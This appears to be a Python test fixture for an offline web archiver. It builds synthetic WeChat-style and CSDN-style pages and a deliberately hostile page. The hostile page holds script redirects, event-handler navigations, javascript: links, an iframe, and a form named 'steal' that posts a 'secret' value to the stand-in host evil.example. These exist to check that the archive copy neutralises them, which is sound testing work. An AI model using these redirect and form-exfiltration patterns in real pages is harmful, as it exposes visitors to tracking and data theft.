"""Three page shapes for the local archive, served by the scripted web (tests/webserver.py).

Written for these tests after the shape of real pages (no real page's text is copied):

- a WeChat article: the body ``#js_content`` hidden by an inline ``visibility: hidden;
  opacity: 0`` until the page's script runs; lazy pictures in ``data-src`` with an SVG or
  1x1 GIF placeholder in ``src``; a ``<section>`` with a CSS background picture; the
  account and date only in script variables (``var nickname = htmlDecode("...")``,
  ``var ct = "..."``); pictures on mmbiz.qpic.cn, which answers a foreign Referer with a
  "not allowed" picture (as the real host does), a shared account logo and stylesheet;
- a CSDN-style post: ``srcset``, ``<picture><source>``, jQuery-lazyload ``data-original``
  with a loading GIF in ``src``, ``loading="lazy"``, an external stylesheet (on another
  host) with ``@import``, a background picture and an ``@font-face`` font;
- a hostile page: meta refresh, ``<base>``, a form posting elsewhere, inline handlers,
  ``javascript:`` links, an iframe, an object, scripts, a prefetch link.

Pictures are real PNGs of distinct sizes and colours (drawn here, no imaging library).
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

from aiohttp import web

__all__ = ["png", "install", "hotlink_response", "WECHAT_JS", "WECHAT_CSS", "WECHAT_URL", "CSDN_URL", "HOSTILE_URL", "WECHAT_TEXT", "CSDN_TEXT",
           "NOT_ALLOWED", "FONT_FILE", "wechat_article", "PICTURES"]

WECHAT_URL = "https://mp.weixin.qq.com/s/Lh_Test-Article_01"
CSDN_URL = "https://blog.csdn.net/lhtest/article/details/123456789"
HOSTILE_URL = "https://hostile.example.com/page.html"
FONT_FILE = Path("/usr/share/fonts/truetype/liberation/LiberationSansNarrow-Regular.ttf")

WECHAT_TEXT = "离线阅读的第一段：这篇文章在脚本运行之前是看不见的。"
CSDN_TEXT = "本文记录了一个离线归档的测试用例，包含响应式图片和懒加载图片。"


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour RGB PNG of the given size."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    row = b"\x00" + bytes(rgb) * width
    raw = zlib.compress(row * height)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


#: What mmbiz.qpic.cn answers to a foreign Referer: a small grey "not allowed" picture.
NOT_ALLOWED = png(3, 3, (128, 128, 128))

#: path -> picture bytes (every host serves its own paths below).
PICTURES = {
    "/mmbiz_png/LhLogo/0": png(24, 24, (7, 193, 96)),
    "/mmbiz_jpg/LhPhotoA/640": png(64, 48, (200, 60, 60)),
    "/mmbiz_jpg/LhPhotoB/640": png(48, 64, (60, 60, 200)),
    "/mmbiz_png/LhBackground/640": png(80, 40, (240, 200, 40)),
    "/img/photo-320.png": png(32, 24, (10, 10, 10)),
    "/img/photo-1280.png": png(128, 96, (30, 140, 30)),
    "/img/lazy-a.png": png(40, 40, (140, 30, 140)),
    "/img/native-lazy.png": png(50, 20, (20, 120, 160)),
    "/img/pic.webp": png(36, 36, (250, 120, 0)),
    "/img/pic-fallback.png": png(20, 20, (0, 0, 0)),
    "/img/loading.gif": png(1, 1, (255, 255, 255)),
    "/release/img/header-bg.png": png(60, 30, (90, 90, 200)),
}

SVG_PLACEHOLDER = ("data:image/svg+xml,%3C%3Fxml version='1.0' encoding='UTF-8'%3F%3E%3Csvg width='1px' "
                   "height='1px' viewBox='0 0 1 1' version='1.1' xmlns='http://www.w3.org/2000/svg'%3E"
                   "%3Cg stroke='none' stroke-width='1' fill='none' fill-rule='evenodd' fill-opacity='0'%3E"
                   "%3Crect fill='%23FFFFFF' x='0' y='0' width='1' height='1'%3E%3C/rect%3E%3C/g%3E%3C/svg%3E")
GIF_PLACEHOLDER = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"


def wechat_article(n: int = 1, photos: tuple[str, ...] = ("/mmbiz_jpg/LhPhotoA/640", "/mmbiz_jpg/LhPhotoB/640"),
                   account: str = "离线测试号") -> str:
    """A WeChat-shaped article: hidden body, lazy pictures, CSS background, script variables."""
    imgs = "\n".join(
        f'<p style="text-align: center;"><img class="rich_pages wxw-img" data-ratio="0.75" data-type="jpeg" '
        f'data-w="1080" data-src="https://mmbiz.qpic.cn{p}?wx_fmt=jpeg" '
        f'src="{SVG_PLACEHOLDER if i % 2 == 0 else GIF_PLACEHOLDER}" style="width: 100%;"></p>'
        for i, p in enumerate(photos))
    return f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1.0,maximum-scale=1.0,user-scalable=0">
<script nonce="1">window.logs = {{pagetime: {{}}}}; window.logs.pagetime['html_begin'] = (+new Date());</script>
<link rel="dns-prefetch" href="//res.wx.qq.com">
<link rel="stylesheet" href="//res.wx.qq.com/mmbizappmsg/zh_CN/htmledition/appmsg_lh.css">
<title>离线测试文章 {n}：看得见的正文</title>
<meta property="og:title" content="离线测试文章 {n}：看得见的正文">
<style>.rich_media_content{{overflow:hidden;color:#333;font-size:17px}}</style>
</head>
<body id="activity-detail" class="zh_CN wx_wap_page">
<div id="js_article" class="rich_media">
<div class="rich_media_inner"><div id="page-content" class="rich_media_area_primary">
<div class="rich_media_area_primary_inner">
<h1 class="rich_media_title" id="activity-name">离线测试文章 {n}：看得见的正文</h1>
<div id="meta_content" class="rich_media_meta_list">
<span class="rich_media_meta rich_media_meta_nickname" id="profileBt">
<a href="javascript:void(0);" id="js_name"></a></span>
<em id="publish_time" class="rich_media_meta rich_media_meta_text"></em>
<img class="profile_avatar" src="https://mmbiz.qpic.cn/mmbiz_png/LhLogo/0?wx_fmt=png" width="24" height="24">
</div>
<div class="rich_media_content js_underline_content" id="js_content" style="visibility: hidden; opacity: 0; ">
<section><p>{WECHAT_TEXT}</p><p>第二段（文章 {n}）：正文里的链接 <a href="https://mp.weixin.qq.com/s/Other_Article">另一篇文章</a>
要保持为真实链接。</p></section>
{imgs}
<section id="lh-bg" style="background-image: url(&quot;https://mmbiz.qpic.cn/mmbiz_png/LhBackground/640?wx_fmt=png&quot;);
background-size: cover; width: 200px; height: 100px; margin: 8px auto;"><p>背景图上的文字</p></section>
<p>最后一段：读者离线也能看到全部图片。</p>
</div>
</div></div></div></div>
<script nonce="1" type="text/javascript">
var biz = "MzA5NjU0MzIxMA==";
var nickname = htmlDecode("{account}");
var ct = "1700000000";
var publish_time = "2023-11-14" || "";
var msg_title = '离线测试文章 {n}'.html(false);
document.getElementById('js_content').style.visibility = 'visible';
</script>
<script src="https://res.wx.qq.com/mmbizappmsg/zh_CN/htmledition/js/appmsg_lh.js"></script>
</body></html>"""


#: The article's own script (shape of WeChat's): shows the body and loads the lazy pictures.
#: Kept in the WARC for replay tools; never in the readable copy.
WECHAT_JS = """(function () {
  var c = document.getElementById('js_content');
  if (c) { c.style.visibility = 'visible'; c.style.opacity = 1; }
  var imgs = document.querySelectorAll('img[data-src]');
  for (var i = 0; i < imgs.length; i++) imgs[i].src = imgs[i].getAttribute('data-src');
})();"""

WECHAT_CSS = """.rich_media_title{font-size:22px;line-height:1.4;margin-bottom:14px}
.rich_media_area_primary{padding:20px 16px 12px;background-color:#fafafa}
.profile_avatar{border-radius:50%}"""

CSDN_PAGE = f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8">
<link rel="canonical" href="{CSDN_URL}">
<link rel="shortcut icon" href="https://g.csdnimg.cn/static/logo/favicon32.ico" type="image/x-icon">
<link rel="stylesheet" href="https://csdnimg.cn/release/blogv2/dist/pc/css/detail_enter-lh.css">
<title>离线归档测试用例_lhtest的博客-CSDN博客</title>
<script src="https://csdnimg.cn/release/blogv2/dist/pc/js/common-lh.js"></script>
</head>
<body class="nodata">
<div class="main_father"><main>
<div class="blog-content-box">
<div class="article-header-box"><div class="title-box" id="lh-header-bg"><h1 class="title-article" id="articleContentId">离线归档测试用例</h1></div></div>
<article class="baidu_pl"><div id="article_content" class="article_content clearfix">
<div id="content_views" class="markdown_views prism-atom-one-dark">
<p>{CSDN_TEXT}</p>
<p><img src="https://img-blog.csdnimg.cn/img/photo-320.png" alt="响应式"
 srcset="https://img-blog.csdnimg.cn/img/photo-320.png 320w, https://img-blog.csdnimg.cn/img/photo-1280.png 1280w"
 sizes="(max-width: 600px) 320px, 1280px"></p>
<p><img class="lazy" data-original="https://img-blog.csdnimg.cn/img/lazy-a.png" src="/img/loading.gif" alt="懒加载"></p>
<p><picture><source srcset="https://img-blog.csdnimg.cn/img/pic.webp" type="image/webp">
<img src="https://img-blog.csdnimg.cn/img/pic-fallback.png" alt="picture"></picture></p>
<p class="lh-font">Font check: The quick brown fox.</p>
<pre><code>print("hello")</code></pre>
<div style="height: 1800px">长内容</div>
<p><img loading="lazy" src="https://img-blog.csdnimg.cn/img/native-lazy.png" alt="原生懒加载"></p>
<p>参考：<a href="/lhtest/article/details/987654321">上一篇</a></p>
</div></div></article></div></main></div>
<script>window.csdn = {{}};</script>
</body></html>"""

CSDN_CSS = """@import url("https://csdnimg.cn/release/blogv2/dist/pc/css/fonts-lh.css");
.title-box{background:url(../../../../img/header-bg.png) no-repeat;background-size:cover;min-height:40px}
.lh-font{font-family:"LhTestFont",monospace;font-size:20px}
"""
CSDN_FONTS_CSS = """@font-face{font-family:"LhTestFont";src:url('/release/fonts/lh-test.ttf') format("truetype")}"""

HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="1; url=https://evil.example/after-refresh">
<base href="https://evil.example/">
<link rel="prefetch" href="https://evil.example/prefetched">
<link rel="stylesheet" href="https://evil.example/missing.css">
<title>A hostile page</title>
<style>@import url("https://evil.example/imported.css"); .bg{background:url(https://evil.example/bg.png)}</style>
<script>window.__ran = 1; location = "https://evil.example/script";</script>
<script src="https://evil.example/x.js"></script>
</head>
<body onload="location='https://evil.example/onload'">
<main><h1 onclick="location='https://evil.example/click'">Hostile page, harmless copy</h1>
<p>Readable text of the hostile page stays readable.</p>
<p class="bg">A background that cannot be fetched.</p>
<img src="https://evil.example/track.gif" onerror="location='https://evil.example/onerror'" alt="tracker">
<a id="js-link" href="javascript:location='https://evil.example/js'">javascript link</a>
<a id="rel-link" href="other.html">relative link</a>
<form id="steal" action="https://evil.example/steal" method="post"><input name="q" value="secret">
<button id="send" type="submit" formaction="https://evil.example/steal2">send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
<svg width="10" height="10" onload="location='https://evil.example/svg'"><rect width="10" height="10"/></svg>
<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png"></video>
</main></body></html>"""


def hotlink_response(request: web.Request, body: bytes) -> web.Response:
    """mmbiz.qpic.cn's hotlink rule: a foreign Referer gets the "not allowed" picture."""
    referer = request.headers.get("Referer", "")
    if referer and not referer.startswith(("https://mp.weixin.qq.com/", "http://mp.weixin.qq.com/")):
        return web.Response(body=NOT_ALLOWED, content_type="image/png")
    # The real host serves JPEG-named URLs with whatever type: sniffing must not care.
    return web.Response(body=body, content_type="image/jpeg" if "jpg" in request.path else "image/png")


def _not_allowed_unless_own_referer(body: bytes):
    async def handler(request: web.Request) -> web.Response:
        return hotlink_response(request, body)
    return handler


def install(web_server) -> None:
    """Register the three pages and every resource they use on the scripted web."""
    for path, body in PICTURES.items():
        if path.startswith("/mmbiz"):
            web_server.route(path, _not_allowed_unless_own_referer(body))
        else:
            web_server.page(path, body, content_type="image/png")
    web_server.page("/s/Lh_Test-Article_01", wechat_article())
    web_server.page("/mmbizappmsg/zh_CN/htmledition/appmsg_lh.css", WECHAT_CSS, content_type="text/css")
    web_server.page("/mmbizappmsg/zh_CN/htmledition/js/appmsg_lh.js", WECHAT_JS,
                    content_type="application/javascript")
    web_server.page("/lhtest/article/details/123456789", CSDN_PAGE)
    web_server.page("/release/blogv2/dist/pc/css/detail_enter-lh.css", CSDN_CSS, content_type="text/css")
    web_server.page("/release/blogv2/dist/pc/css/fonts-lh.css", CSDN_FONTS_CSS, content_type="text/css")
    web_server.page("/release/fonts/lh-test.ttf", FONT_FILE.read_bytes(), content_type="font/ttf")
    web_server.page("/static/logo/favicon32.ico", png(16, 16, (200, 0, 0)), content_type="image/x-icon")
    web_server.page("/page.html", HOSTILE_PAGE)
